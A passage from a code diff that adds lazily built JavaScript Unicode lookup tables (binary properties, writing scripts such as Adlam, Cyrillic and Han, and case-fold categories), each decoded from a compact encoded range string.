+    Math: () => new UnicodeRangeTable(decodeRanges("rBRRBBBgBeeCuBuBFmBmBgB5W5WBBBDbbBDDBBBwQCBuwGccBBBMEEOPPBCBWEBMEBiCMBFEEBFFBDBTFFDJBCDDBEBHEEBDDBCCBBBCFBENBClClCBWBCFBCBBFBBFfBCHHBPPBqIBJDBVBB7CffBZBCZZMGB+NBBNJBFFBFBBDBBEEBPCCDFBMHBGBB6BCCeDBKCBxK-BBhI-PBxBUBDFB9+zB4Z4ZBEBCjFjFRCBeCCeCCkEHHBCBitDBBhrwBwoBwoBBzCBCmCBCBBDDDBDDBCBCLBCCCBFBCgCBCDBDHBCGBCbBCDBCEBCEEBFBCzKBDjJBDxBBhwFDBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1BBB-uCIB", false)),
+    Quotation_Mark: () => new UnicodeRangeTable(decodeRanges("iBFFkEQQ96HHBaBBowDqOqOBCBOCBixzBDB+FFF7CBB", false)),
+    Terminal_Punctuation: () => new UnicodeRangeTable(decodeRanges("hBLLCMMBEE-ZJJiQ6B6BpCPPCCB1FsBsBBJBCsHsHB3B3BBEBCHBgBmImIB1nB1nBBtFtFFFB4JBB2YHBmY9D9DBBBoCBB+ECBEoBoBBCBDBB7JBBjLDBjFBBLBBCCBeCB8FEB-BBBldYYBKKBBBwlDCBzJOOFLLCBBEBBtNBB8ndBBuICBkHEB-LBB3CBBgD4E4EBBB0ECBgERRB6H6HnxUDDB6B6BBBBCDBqFLLCMMBEEiCDD7hBxBxBnkBoGoG3JBB5EFBlCFB6CDB5dEBtBDB+FGBxDDBgECBiEBBHRRB5C5CBDBtDrJrJB2D2DBBBNBBnLDBEOBqDBB6HCBmQCC8HBB4CBBFBB-MCBuBmUmUBrCrCBspBspBBDB6vRBBmEiCiCBBBLqRqRBoJoJBnwTnwTovHDB", false)),
+    Uppercase: () => new UnicodeRangeTable(decodeRanges("hCZBmDWBCGBiB2BCDOCDuBCBECEBBCCCBCCBBBDDBCBBCCBEBBCBBCECBCCDCCBCCBBBCCCBEEIJDCMCDQCDDDCCBC4BCIBBCBBDCCBCBCGCiJCCEJJHCCBBBCCCBCCBPBCIBkBDDBBBEWCGDDCBBDyBBxBgBCK2BCBMCD+CCDlBBq6ClBBCGGzW1CB0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBpCDBNDBNDBNEBMDBnIFFECBDCBDEEBDBHGCBCBDDBLBBGbbBOBUzZzZBYBx5BvBBxBCCBBBDGCBCBCDDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVfBhCYBoqZZBbZBbZBbCCBGDBDDBCBCHBbZBbBBCDBDHBCGBcBBCDBCEBCEEBFBcZBbZBbZBbZBbZBbZBfYBiBYBiBYBiBYBiBYBiB2pE2pEBgBBvgCZBHZBHZB", false)),
+    White_Space: () => new UnicodeRangeTable(decodeRanges("JEBTlDlDbgvFgvFgsCKBeBBGwBwBh9DAB", false))
+  });
+  static SCRIPTS = new LazyMap({
+    Adlam: () => new UnicodeRangeTable(decodeRanges("go6DrCFJFB", true)),
+    Ahom: () => new UnicodeRangeTable(decodeRanges("g4lCaDOFW", true)),
+    Anatolian_Hieroglyphs: () => new UnicodeRangeTable(decodeRanges("ggxCmS", true)),
+    Arabic: () => new UnicodeRangeTable(decodeRanges("gwBEBCFBCNBCCBCfBCJBMZBCrDBChBBxCvBBxHhBBGqCBCcBxy8BtPBDvEBhBPBxDEBCmEBk7DeBkCFBJIBiBFBh43BDBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1BBB", false)),
+    Armenian: () => new UnicodeRangeTable(decodeRanges("xpBlBDxBDCks9BE", true)),
+    Avestan: () => new UnicodeRangeTable(decodeRanges("g4iC1BEG", true)),
+    Balinese: () => new UnicodeRangeTable(decodeRanges("g4GsCCxB", true)),
+    Bamum: () => new UnicodeRangeTable(decodeRanges("g1pB3CpowB4R", true)),
+    Bassa_Vah: () => new UnicodeRangeTable(decodeRanges("w26CdDF", true)),
+    Batak: () => new UnicodeRangeTable(decodeRanges("g+GzBJD", true)),
+    Bengali: () => new UnicodeRangeTable(decodeRanges("gsCDBCHBDBBDVBCGBCEEBCBDIBDBBDDBJFFBCCBDBDYB", false)),
+    Beria_Erfe: () => new UnicodeRangeTable(decodeRanges("g17CYDY", true)),
+    Bhaiksuki: () => new UnicodeRangeTable(decodeRanges("ggnCICsBCNLc", true)),
+    Bopomofo: () => new UnicodeRangeTable(decodeRanges("qXB6wLqBxDf", true)),
+    Brahmi: () => new UnicodeRangeTable(decodeRanges("ggkCtCFjBKA", true)),
+    Braille: () => new UnicodeRangeTable(decodeRanges("ggK-H", true)),
+    Buginese: () => new UnicodeRangeTable(decodeRanges("gwGbDB", true)),
+    Buhid: () => new UnicodeRangeTable(decodeRanges("g6FT", true)),
+    Canadian_Aboriginal: () => new UnicodeRangeTable(decodeRanges("ggF-TxRlC7tgCP", true)),
+    Carian: () => new UnicodeRangeTable(decodeRanges("g1gCwB", true)),
+    Caucasian_Albanian: () => new UnicodeRangeTable(decodeRanges("wphCzBMA", true)),
+    Chakma: () => new UnicodeRangeTable(decodeRanges("gokC0BCR", true)),
+    Cham: () => new UnicodeRangeTable(decodeRanges("gwqB2BKNDJDD", true)),
+    Cherokee: () => new UnicodeRangeTable(decodeRanges("g9E1CDFz7lBvC", true)),
+    Chorasmian: () => new UnicodeRangeTable(decodeRanges("w9jCb", true)),
+    Common: () => new UnicodeRangeTable(decodeRanges("AgCBbFBbuBBCOBCEBYgBgBiOmBBGEBDTB1DKKHCC+THHPEEhB9E9ElQiEiEB6mB6mB2MDBjJwvBwvBBBBoCBBsGBBCumBumBOIIBCBCFBCCBDmYmYBKBD2CBCKBEKBCOBShBB-BlBBCCBDFBCaBCQBqBCBF5UBXKBW-cBhIzTBDpEBhQ9CBzMUBCCCBXBQHBFDB8CBBE7C7CB0E0EBOBhBlBBKxBxBB+BBgBwCBwB5C5CBmFBhuG-BBhoWhBBnDCBmFJB1HhFhFsMPPBzuUzuUBxGxGBIBXiBBCSBCDB0ECCBeBbFBbKBLuBuBBhChCBFBCGBLEBjICBFsBBEIBxCMB0BsBBlHaBltuBDB96D8HBEzNBHWBQQBgDzDB9B1HBLmBBD9BBEQBJBBIdBF8BB2GTBNTBN2CBKYBoE0CBCmCBCBBDDDBDDBCBCLBCCCBFBCgCBCDBDHBCGBCbBCDBCEBCEEBFBCzKBDjJBDxBByjFjCBtC8BBjWrBBFjDBNOBDOBCOBCkBBLtFB5BZBCBBOrBBFIBIBBPFB7E4eBEQBEMBE5GBHLBFQQBKBF3BBJJBHnBBJdBDLBFBBPIBoB3KBJNBDMBEKBE4BBCFFBOBDLBFJBIyEBCmDBnghYffB+CB", false)),
+    Coptic: () => new UnicodeRangeTable(decodeRanges("ifNxkKzDGG", true)),
+    Cuneiform: () => new UnicodeRangeTable(decodeRanges("ggoC5cnDuDCEMjG", true)),
+    Cypriot: () => new UnicodeRangeTable(decodeRanges("ggiCFBDCCBqBBCBBEDD", false)),
+    Cypro_Minoan: () => new UnicodeRangeTable(decodeRanges("w8rCiD", true)),
+    Cyrillic: () => new UnicodeRangeTable(decodeRanges("ggBkEBDoFBx6FKBhFtCtCojEfBhie-CBv8VBBhw4B9BBiBAB", false)),
+    Deseret: () => new UnicodeRangeTable(decodeRanges("gghCvC", true)),
+    Devanagari: () => new UnicodeRangeTable(decodeRanges("goCwCFODZh7nBfhwcJ", true)),
+    Dives_Akuru: () => new UnicodeRangeTable(decodeRanges("gomCGBDDDBGBCBBCdBCBBDLBKJB", false)),
+    Dogra: () => new UnicodeRangeTable(decodeRanges("ggmC7B", true)),
+    Duployan: () => new UnicodeRangeTable(decodeRanges("ggvDqDGMEIIJDD", true)),
+    Egyptian_Hieroglyphs: () => new UnicodeRangeTable(decodeRanges("ggsC1iBL68D", true)),
+    Elbasan: () => new UnicodeRangeTable(decodeRanges("gohCnB", true)),
+    Elymaic: () => new UnicodeRangeTable(decodeRanges("g-jCW", true)),
+    Ethiopic: () => new UnicodeRangeTable(decodeRanges("gwEoCBCDBDGBCCCBCBDoBBCDBDgBBCDBDGBCCCBCBDOBC4BBCDBDiCBDfBEZBnvGWBKGBCGBCGBCGBCGBCGBCGBCGBjpfFBDFBDFBKGBCGBylvCGBCDBCBBCOB", false)),
+    Garay: () => new UnicodeRangeTable(decodeRanges("gqjClBEcJB", true)),
+    Georgian: () => new UnicodeRangeTable(decodeRanges("glElBBCGGDqBBCDBx8CqBBDCBhiElBBCGG", false)),
+    Glagolitic: () => new UnicodeRangeTable(decodeRanges("ggL-Ch9sDGCQDGCBCE", true)),
+    Gothic: () => new UnicodeRangeTable(decodeRanges("w5gCa", true)),
+    Grantha: () => new UnicodeRangeTable(decodeRanges("g4kCDBCHBDBBDVBCGBCBBCEBDIBDBBDCBDHHGGBDGBEEB", false)),
+    Greek: () => new UnicodeRangeTable(decodeRanges("wbDBCCBDDBCFFCCCBBBCCCBSBC+BBPPBnpGEBzBEBFEB1ChKhKBUBDFBDlBBDFBDHBCGCBdBD0BBCOBCNBDFBCSBDCBCIBoJ-xiB-xiB7uVuCBSgj0Bgj0BBkCB", false)),
+    Gujarati: () => new UnicodeRangeTable(decodeRanges("h0CCBCIBCCBCVBCGBCBBCEBDJBCCBCCBDQQBCBDLBIGB", false)),
+    Gunjala_Gondi: () => new UnicodeRangeTable(decodeRanges("grnCFCBCkBCBCFIJ", true)),
+    Gurmukhi: () => new UnicodeRangeTable(decodeRanges("hwCCBCFBFBBDVBCGBCBBCBBCBBDCCBDBFBBDCBEIIBCBCIIBPB", false)),
+    Gurung_Khema: () => new UnicodeRangeTable(decodeRanges("go4C5B", true)),
+    Han: () => new UnicodeRangeTable(decodeRanges("g0LZBC4CBN1GBwBCCaIBPDBle-tGBhC-vUBhoWtLBDpDBpodBBNGBqgkB-2pBBhB9oEBDt0FBDwpHBQtTBjtC9QBjvBq6EBGppIB", false)),
+    Hangul: () => new UnicodeRangeTable(decodeRanges("goE-HvxHBiI9CyDeiCei3dckUj9KNWFwBl9JeEFDFDFDC", true)),
+    Hanifi_Rohingya: () => new UnicodeRangeTable(decodeRanges("gojCnBJJ", true)),
+    Hanunoo: () => new UnicodeRangeTable(decodeRanges("g5FU", true)),
+    Hatran: () => new UnicodeRangeTable(decodeRanges("gniCSCBGE", true)),
+    Hebrew: () => new UnicodeRangeTable(decodeRanges("xsB2BBJaBFFBpp9BZBCEBCCCBCCBCCBIB", false)),
+    Hiragana: () => new UnicodeRangeTable(decodeRanges("hiM1CBHCBi7-C+IBTeeBBBulQAB", false)),
+    Imperial_Aramaic: () => new UnicodeRangeTable(decodeRanges("giiCVCI", true)),
+    Inherited: () => new UnicodeRangeTable(decodeRanges("gYvDB2IBBlOKBbhXhXBCB8qEtBBDLBlPCBCMBCGBFHHEBBnG-BBtQBBjGgBB65DDBsDBBmrzBPBRNBwejHjH7iEl+uBl+uBBsBBDWBhRCBSHBDGBfDBz6rYvHB", false)),
+    Inscriptional_Pahlavi: () => new UnicodeRangeTable(decodeRanges("g7iCSGH", true)),
+    Inscriptional_Parthian: () => new UnicodeRangeTable(decodeRanges("g6iCVDH", true)),
+    Javanese: () => new UnicodeRangeTable(decodeRanges("gsqBtCDJFB", true)),
+    Kaithi: () => new UnicodeRangeTable(decodeRanges("gkkCiCLA", true)),
+    Kannada: () => new UnicodeRangeTable(decodeRanges("gkDMCCCWCJCEDICCCDIBGCCDDJCC", true)),
+    Katakana: () => new UnicodeRangeTable(decodeRanges("hlM5CBDCBxHPBxGuBBC3CBvgzBJBCsBBzisBDBCGBCBBCgJgJBBBzBPPBCB", false)),
+    Kawi: () => new UnicodeRangeTable(decodeRanges("g4nCQCoBEc", true)),
+    Kayah_Li: () => new UnicodeRangeTable(decodeRanges("goqBtBCA", true)),
+    Kharoshthi: () => new UnicodeRangeTable(decodeRanges("gwiCDCBGHCCCcDCFJII", true)),
+    Khitan_Small_Script: () => new UnicodeRangeTable(decodeRanges("k-7C84G84GB0OBqBAB", false)),
+    Khmer: () => new UnicodeRangeTable(decodeRanges("g8F9CDJHJnPf", true)),
+    Khojki: () => new UnicodeRangeTable(decodeRanges("gwkCRCuB", true)),
+    Khudawadi: () => new UnicodeRangeTable(decodeRanges("w1kC6BGJ", true)),
+    Kirat_Rai: () => new UnicodeRangeTable(decodeRanges("gq7C5B", true)),
+    Lao: () => new UnicodeRangeTable(decodeRanges("h0DBBCCCBDBCXBCCCBVBDEBCCCBFBCJBDDB", false)),
+    Latin: () => new UnicodeRangeTable(decodeRanges("hCZBHZBwBQQGWBCeBCgOBoBEB8wGlBBHwBBGDBGMBClCBiC-HByLOORMBuEBBHccSoBB42CfBj1elDBExCBVOBxZqBBCIBCDB38TGB7gBZBHZBmhCFBCpBBCIBm61BeBHFB", false)),
+    Lepcha: () => new UnicodeRangeTable(decodeRanges("ggH3BEOEC", true)),
+    Limbu: () => new UnicodeRangeTable(decodeRanges("goGeBCLBFLBFEEBKB", false)),
+    Linear_A: () => new UnicodeRangeTable(decodeRanges("gwhC2JKVLH", true)),
+    Linear_B: () => new UnicodeRangeTable(decodeRanges("gggCLCZCSCBCODNjB6D", true)),
+    Lisu: () => new UnicodeRangeTable(decodeRanges("wmpBvBx1eA", true)),
+    Lycian: () => new UnicodeRangeTable(decodeRanges("g0gCc", true)),
+    Lydian: () => new UnicodeRangeTable(decodeRanges("gpiCZGA", true)),
+    Mahajani: () => new UnicodeRangeTable(decodeRanges("wqkCmB", true)),
+    Makasar: () => new UnicodeRangeTable(decodeRanges("g3nCY", true)),
+    Malayalam: () => new UnicodeRangeTable(decodeRanges("goDMCCCyBCCCFFPDZ", true)),
+    Mandaic: () => new UnicodeRangeTable(decodeRanges("giCbDA", true)),
+    Manichaean: () => new UnicodeRangeTable(decodeRanges("g2iCmBFL", true)),
+    Marchen: () => new UnicodeRangeTable(decodeRanges("wjnCfDVCN", true)),
+    Masaram_Gondi: () => new UnicodeRangeTable(decodeRanges("gonCGBCBBCrBBECCBCCBHBJJB", false)),
+    Medefaidrin: () => new UnicodeRangeTable(decodeRanges("gy7C6C", true)),
+    Meetei_Mayek: () => new UnicodeRangeTable(decodeRanges("g3qBWqGtBDJ", true)),
+    Mende_Kikakui: () => new UnicodeRangeTable(decodeRanges("gg6DkGDP", true)),
+    Meroitic_Cursive: () => new UnicodeRangeTable(decodeRanges("gtiCXFTDtB", true)),
+    Meroitic_Hieroglyphs: () => new UnicodeRangeTable(decodeRanges("gsiCf", true)),
+    Miao: () => new UnicodeRangeTable(decodeRanges("g47CqCF4BIQ", true)),
+    Modi: () => new UnicodeRangeTable(decodeRanges("gwlCkCMJ", true)),
+    Mongolian: () => new UnicodeRangeTable(decodeRanges("ggGBBDCCBSBH4CBIqBB2t-BMB", false)),
+    Mro: () => new UnicodeRangeTable(decodeRanges("gy6CeCJFB", true)),
+    Multani: () => new UnicodeRangeTable(decodeRanges("g0kCGBCCCBCBCOBCKB", false)),
+    Myanmar: () => new UnicodeRangeTable(decodeRanges("ggE-EhqmBeiDfxibT", true)),
+    Nabataean: () => new UnicodeRangeTable(decodeRanges("gkiCeJI", true)),
+    Nag_Mundari: () => new UnicodeRangeTable(decodeRanges("wm5DpB", true)),
+    Nandinagari: () => new UnicodeRangeTable(decodeRanges("gtmCHDtBDK", true)),
+    New_Tai_Lue: () => new UnicodeRangeTable(decodeRanges("gsGrBFZHKEB", true)),
+    Newa: () => new UnicodeRangeTable(decodeRanges("gglC7CCE", true)),
+    Nko: () => new UnicodeRangeTable(decodeRanges("g+B6BDC", true)),
+    Nushu: () => new UnicodeRangeTable(decodeRanges("h-7CvsQvsQBqMB", false)),
+    Nyiakeng_Puachue_Hmong: () => new UnicodeRangeTable(decodeRanges("go4DsBENDJFB", true)),
+    Ogham: () => new UnicodeRangeTable(decodeRanges("g0Fc", true)),
+    Ol_Chiki: () => new UnicodeRangeTable(decodeRanges("wiHvB", true)),
+    Ol_Onal: () => new UnicodeRangeTable(decodeRanges("wu5DqBFA", true)),
+    Old_Hungarian: () => new UnicodeRangeTable(decodeRanges("gkjCyBOyBIF", true)),
+    Old_Italic: () => new UnicodeRangeTable(decodeRanges("g4gCjBKC", true)),
+    Old_North_Arabian: () => new UnicodeRangeTable(decodeRanges("g0iCf", true)),
+    Old_Permic: () => new UnicodeRangeTable(decodeRanges("w6gCqB", true)),
+    Old_Persian: () => new UnicodeRangeTable(decodeRanges("g9gCjBFN", true)),
+    Old_Sogdian: () => new UnicodeRangeTable(decodeRanges("g4jCnB", true)),
+    Old_South_Arabian: () => new UnicodeRangeTable(decodeRanges("gziCf", true)),
+    Old_Turkic: () => new UnicodeRangeTable(decodeRanges("ggjCoC", true)),
+    Old_Uyghur: () => new UnicodeRangeTable(decodeRanges("w7jCZ", true)),
+    Oriya: () => new UnicodeRangeTable(decodeRanges("h4CCCHDBDVCGCBCEDIDBDCICFBCEDR", true)),
+    Osage: () => new UnicodeRangeTable(decodeRanges("wlhCjBFjB", true)),
+    Osmanya: () => new UnicodeRangeTable(decodeRanges("gkhCdDJ", true)),
+    Pahawh_Hmong: () => new UnicodeRangeTable(decodeRanges("g46ClCLJCGCUGS", true)),
+    Palmyrene: () => new UnicodeRangeTable(decodeRanges("gjiCf", true)),
+    Pau_Cin_Hau: () => new UnicodeRangeTable(decodeRanges("g2mC4B", true)),
+    Phags_Pa: () => new UnicodeRangeTable(decodeRanges("giqB3B", true)),
+    Phoenician: () => new UnicodeRangeTable(decodeRanges("goiCbEA", true)),
+    Psalter_Pahlavi: () => new UnicodeRangeTable(decodeRanges("g8iCRIDNG", true)),
+    Rejang: () => new UnicodeRangeTable(decodeRanges("wpqBjBMA", true)),
+    Runic: () => new UnicodeRangeTable(decodeRanges("g1FqCEK", true)),
+    Samaritan: () => new UnicodeRangeTable(decodeRanges("ggCtBDO", true)),
+    Saurashtra: () => new UnicodeRangeTable(decodeRanges("gkqBlCJL", true)),
+    Sharada: () => new UnicodeRangeTable(decodeRanges("gskC-ChsCH", true)),
+    Shavian: () => new UnicodeRangeTable(decodeRanges("wihCvB", true)),
+    Siddham: () => new UnicodeRangeTable(decodeRanges("gslC1BDlB", true)),
+    Sidetic: () => new UnicodeRangeTable(decodeRanges("gqiCZ", true)),
+    SignWriting: () => new UnicodeRangeTable(decodeRanges("gg2DrUQECO", true)),
+    Sinhala: () => new UnicodeRangeTable(decodeRanges("hsDCBCRBEXBCIBCDDBFBEFFBEBCCCBGBHJBDCBt-gCTB", false)),
+    Sogdian: () => new UnicodeRangeTable(decodeRanges("w5jCpB", true)),
+    Sora_Sompeng: () => new UnicodeRangeTable(decodeRanges("wmkCYIJ", true)),
+    Soyombo: () => new UnicodeRangeTable(decodeRanges("wymCyC", true)),
+    Sundanese: () => new UnicodeRangeTable(decodeRanges("g8G-BhIH", true)),
+    Sunuwar: () => new UnicodeRangeTable(decodeRanges("g+mChBPJ", true)),
+    Syloti_Nagri: () => new UnicodeRangeTable(decodeRanges("ggqBsB", true)),
+    Syriac: () => new UnicodeRangeTable(decodeRanges("g4BNC7BDCxIK", true)),
+    Tagalog: () => new UnicodeRangeTable(decodeRanges("g4FVKA", true)),
+    Tagbanwa: () => new UnicodeRangeTable(decodeRanges("g7FMCCCB", true)),
+    Tai_Le: () => new UnicodeRangeTable(decodeRanges("wqGdDE", true)),
+    Tai_Tham: () => new UnicodeRangeTable(decodeRanges("gxG+BCcDKHJHN", true)),
+    Tai_Viet: () => new UnicodeRangeTable(decodeRanges("g0qBiCZE", true)),
+    Tai_Yo: () => new UnicodeRangeTable(decodeRanges("g25DeCVJB", true)),
+    Takri: () => new UnicodeRangeTable(decodeRanges("g0lC5BHJ", true)),
+    Tamil: () => new UnicodeRangeTable(decodeRanges("i8CBBCFBECBCDBEBBCCCBEEBEEBBBELBFEBECBCDBDHHPUBm+kCxBBOAB", false)),
+    Tangsa: () => new UnicodeRangeTable(decodeRanges("wz6CuCCJ", true)),
+    Tangut: () => new UnicodeRangeTable(decodeRanges("g-7CgBgBB+3GBhQeBiDyDB", false)),
+    Telugu: () => new UnicodeRangeTable(decodeRanges("ggDMCCCWCPDICCCDIBCCCBDDDJII", true)),
+    Thaana: () => new UnicodeRangeTable(decodeRanges("g8BxB", true)),
+    Thai: () => new UnicodeRangeTable(decodeRanges("hwD5BGb", true)),
+    Tibetan: () => new UnicodeRangeTable(decodeRanges("g4DnCCjBFmBCjBCOCGFB", true)),
+    Tifinagh: () => new UnicodeRangeTable(decodeRanges("wpL3BIBPA", true)),
+    Tirhuta: () => new UnicodeRangeTable(decodeRanges("gklCnCJJ", true)),
+    Todhri: () => new UnicodeRangeTable(decodeRanges("guhCzB", true)),
+    Tolong_Siki: () => new UnicodeRangeTable(decodeRanges("wtnCrBFJ", true)),
+    Toto: () => new UnicodeRangeTable(decodeRanges("w04De", true)),
+    Tulu_Tigalari: () => new UnicodeRangeTable(decodeRanges("g8kCJBCDDClBBCJBCDDCDBCJBCBBJBB", false)),
+    Ugaritic: () => new UnicodeRangeTable(decodeRanges("g8gCdCA", true)),
+    Unknown: () => new UnicodeRangeTable(decodeRanges("4bBBHDBICCVuMuMnBBBzBBBE4B4BBGBcDBHKBvI9B9BBmDmDBMB8BBByBBBQddBCCMEBjBEBuHJJBDDBXXICCBBBFBBKBBDBBFHBCDBDGGBaaBEEHDBDBBXIIDGDBCCGDBDBBECBCGBFCCBFBSJBEKKEXXIDDGBBLIEBCCBNBFBBNGBIEEJBBDBBXIIDGGBKKBDDBEEBFBEDBDGGBTTBIBDHHBBBEFFBBBDCCDCBDCBECBNDBGCBEFFBCCBEBCNBWEBOEEYRRBKKEFFBFBDEEDBBFBBLGBXEEYLLGBBKEEFGBDEBEFFBLLELBOEE0BEEHDBRBBbEETCBZKKCBBICBCDBHCCJFBLBBELB7BDBekBBDCCGZZCYYBGGCIILBBFfBpClBlBBCBoBlBlBQOOBjBBnGCCBDBCBB6LFFBIICFFBqBqBFBBiBFFBIICFFBQQ6BFFBkCkCBhBhBBBBbFB3CBBHBB+UCB6CGBXIBZIBVLBOEEDLB-CBBLFBLFBbFB6CGBsBEBnCJBgBNNBCBNDBCCBrBBBGKBtBDBbFBMCB-BBBiCeeBMMBEBLFBPBBvBBBNTBuCnFnFBGB9BCBQCB-BEBsBBBMHBsBEB3QBBHBBnBBBHBBJGCgBBB2BQQPBBHUUBEEKmDmDNBBcOOBBBjBNBiBOBtEDB7UVBMUB14BBB-LEBuBCCBDBCBB5BGBDNBZIBI4BI-DhBBb6C6CBKB3GZBxC3C3CBoDoDBDBsB-C-C3CIBxBuzcuzcBBB4BIB9KTB5FHB+GTB9BCBLFB5BHBnCHBNFB1DKBfCBvCMMBCBiB4B4BBHBPBBLBBoDXBdJBHBBHBBHIBIII9BDB-DBBLFBl9KLBYDByBjoIBvLBBrDlBBILBGEBbGGCGDrUfBrBFB0BUUFDBGoEoEBCC-FCBHBBHBBHBBECBIIIBIBGBBNbbUDDQBBPhBB8DEBEDBuBCB5COOBBBCuBBvBhEBeCByBOBdDBlBIBfEBsBEBfmBmBBCBPpBB-EBBLFBlBDBlBDBpBHB1BKBNQQIDDMQQIDDBBB1BLB4JIBXJBJXBHrBrBKkCBHBBCtBtBDCBCBBYpCpCBGBKvBBUDDBDBiBCBcEBclBB5BDBVBBzBDDBDBJEEeBBEDBLGBKGBhCfBoBDBNIB3BCBeBBcEBbGBFLBIvCBqC2BB0BMB0BGBvBHBLFBnBCBeHBDvGBgBrBrBEBBDPBHHBKgBBvBHBrBVBblBBdTBYIBvCDBlBIBlCJBCBBaGBLFB2BTTBGBoBIBhDVVBJBTwBwBB8BBICCFQQMFB8BEBLFBFJJBDDBXXIDDGLLBDDBEEBCCBEBCEBIBBICBGKBLCCBCCnBLLCBBCFFLDDBGBDcB9CGGBcBpCHBLlFB3BBBnBhBBmCKBLFBOSB7BFBLFBVbBcBBQDBY4FB9BjDB0CLBJBBCBBJDDfDDBNNBHBLlCBJBBvBBBMaBpCHB0CMBqCGBL1CBJ3CBjBNBLFBKuBuBPJBeCBhBBBXPPBnCBIDDtBCBCDDKHBLFBHDDmBDDHGBLFBtBDBL1HBaGBSqBqBBBBe0CBCOBzBMB8clDBwDGGBJBlGryCBkDMB3iBJB88DEBoS41GB7Bl2BB6RGBgBLLBCByCLLBEBfBBHJBnCJBLIIWEBUvNB7BlGB8CEBaBBarBBsCDB6BGBS-BBGKBIIB3mHoBBhBgDB0D8vIBFIIDkJkJBNBCcBEBBCNBFHBtMjoCBsDEBOCBKGBLBBJ76DB+HCB1NFBYOBSOBvBBBYIB1D7BB3HJBoBBBjGUBnC5DBVLBVLB4CIBamEB2CoCoCDBBCBBDBBFNNCIIiCFFBJJIddFGGCCBI1K1KBlJlJB-V-VBNBGQQBuiBBgBFBH0GBISSBIIDGGBDB-BgBBCvDBuBCBPBBLDBD-JBgBQB7BEBCvOBrB1GBsBDBC-FBgBXXBGBD-GBIFFDQQmGBBRoBBtCDBLDBDwYBlCrCB+BhGBFccDCCBCCLFFCCCBEBCDBCECEDDCBBCICDCCBFFIKFCLLSEBEGGSzBBDtIBtBDBlDLBQBBQQQmBJBvF3BBeMBtBDBKGBDNBH5EB6eCBSCBOCB7GFBNDBCOBNDB5BHBLFBpBHBfBBNDBDNBKmBB5KHBPBBOCBMCB6BCCBCBRBBNDBLGB0EoDoDBjgBBh3pBfB-oEBBv0FBBypHOBvThtCB-QhvBBs6EEBrpIm8yVBCdBhD-DBxHvw-FB", false)),
+    Vai: () => new UnicodeRangeTable(decodeRanges("gopBrJ", true)),
+    Vithkuqi: () => new UnicodeRangeTable(decodeRanges("wrhCKCOCGCBCKCOCGCB", true)),
+    Wancho: () => new UnicodeRangeTable(decodeRanges("g24D5BGA", true)),
+    Warang_Citi: () => new UnicodeRangeTable(decodeRanges("glmCyCNA", true)),
+    Yezidi: () => new UnicodeRangeTable(decodeRanges("g0jCpBCCDB", true)),
+    Yi: () => new UnicodeRangeTable(decodeRanges("ggoBskBE2B", true)),
+    Zanabazar_Square: () => new UnicodeRangeTable(decodeRanges("gwmCnC", true))
+  });
+  static FOLD_CATEGORIES = new LazyMap({
+    L: () => new UnicodeRangeTable(decodeRanges("laA", true)),
+    LC: () => new UnicodeRangeTable(decodeRanges("laA", true)),
+    Ll: () => new UnicodeRangeTable(decodeRanges("hCZBmDWBCGBiBuBCEECDOCDuBCBECEBBCCCBCCBBBDDBCBBCCBEBBCBBCECBCCDCCBCCBBBCCCBEEIBBCBBCBBCOCDQCDBBCCCBBBC4BCIBBCBBDCCBCBCGC3HrBrBCEEJHHCCBCCCBCCBPBCIBkBJJCUCGDDCBBDyBBxBgBCK2BCBMCD+CCDlBBq6ClBBCGGzW1CB0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBZHBJHBJHBJEBMEBMDBNEBMEBqJEEBHHxC9zC9zCBuBBxBCCBBBDGCBCBCDDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVfBhCYBoyehBB", false)),
+    Lt: () => new UnicodeRangeTable(decodeRanges("kOCCBCCBCClBCCtsHHBJHBJHBMQQwBAB", false)),
+    Lu: () => new UnicodeRangeTable(decodeRanges("hDZB7BqBqBBWBCHBCuBCEECDOCDsBCDECBBBDCCDEEGDDECBDDDCCCDFFDEECDDECCGBBCBBCBBCOCBSCDBBCEECkBCEQCJDDBCCFICBEBCBBCCCBEEBCCBCBCEBDCCBDDIDDCBBEFBGLLBnFnFsBCCEEEBBBvBDBCdBCBBECBCWCBDBCGD1BvBBCgBCK0BCDMCBgDCyBlBBq6CqBBDCB5XFBjkCIBCvHvHERRzD0ECGGGC8CCBHBJFBLHBJHBJFBMGCJHBJNBzBBBNSSBPPBEEpL2B2Bs1CvBBCEEBGCHDDLiDCJCCFNNBkBBCGG0oesBCUaCoEMCE8BCLCCDICFFFCBBDSCMOCFCCDOCb9a9advCBi8UZBumBnBBpEjBB8EKBCOBCGBCBBk4ByBB+DVB75CfBhsVfB8BYBvyehBB", false)),
+    M: () => new UnicodeRangeTable(decodeRanges("5cgBgBlgHAB", false)),
+    Mn: () => new UnicodeRangeTable(decodeRanges("5cgBgBlgHAB", false)),
+    Emoji: () => new UnicodeRangeTable(decodeRanges("8mJA", true)),
+    Extended_Pictographic: () => new UnicodeRangeTable(decodeRanges("8mJA", true)),
+    Lowercase: () => new UnicodeRangeTable(decodeRanges("hCZBmDWBCGBiBuBCEECDOCDuBCBECEBBCCCBCCBBBDDBCBBCCBEBBCBBCECBCCDCCBCCBBBCCCBEEIBBCBBCBBCOCDQCDBBCCCBBBC4BCIBBCBBDCCBCBCGCiJCCEJJHCCBBBCCCBCCBPBCIBkBJJCUCGDDCBBDyBBxBgBCK2BCBMCD+CCDlBBq6ClBBCGGzW1CB0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBZHBJHBJHBJEBMEBMDBNEBMEBqJEEBHHuBPBUzZzZBYBx5BvBBxBCCBBBDGCBCBCDDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVfBhCYBoyehBB", false)),
